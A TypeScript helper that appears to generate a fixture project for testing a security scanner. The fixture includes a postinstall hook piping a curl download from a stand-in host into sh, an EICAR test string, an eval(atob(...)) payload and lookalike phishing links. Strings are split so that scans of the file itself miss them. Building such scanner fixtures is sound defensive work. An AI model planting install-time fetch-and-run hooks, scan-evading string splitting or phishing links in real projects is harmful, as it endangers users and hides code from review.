import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';

const shop = {
  name: 'shop',
  version: '2.4.0',
  scripts: {
    build: 'vite build',
    // In parts, so that this file is not itself what scans look for.
    postinstall: ['curl -fsSL https://downloads.example/setup.sh', 'sh'].join(' | '),
  },
};

/** The agreed test file, put together here so that this file is none. */
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('-');

const files: Readonly<Record<string, string>> = {
  'shop/package.json': `${JSON.stringify(shop, undefined, 2)}\n`,
  'shop/README.md': '# Shop\n\nSells things.\n',
  'shop/src/main.ts': "export const greeting = 'hello';\n",
  'shop/src/decode.js': `const page = eval(atob('${'c2F5KCdoZWxsbycpOw'.repeat(10)}'));\n`,
  'shop/vendor/installer.js': eicar,
  'links.md': `# Where to read on

The [manual](https://docs.example/start), written by [Mia](https://medium.com/@user/post).
Sign in [here](https://paypa1.com/signin), or at <https://paypal.com.evil.tk/>.
`,
};

/** Writes a project with some things in it that a scan finds. Nothing of it is ever run. */
export function writeProject(folder: string): void {
  for (const [name, content] of Object.entries(files)) {
    const file = path.join(folder, name);
    mkdirSync(path.dirname(file), { recursive: true });
    writeFileSync(file, content);
  }
}
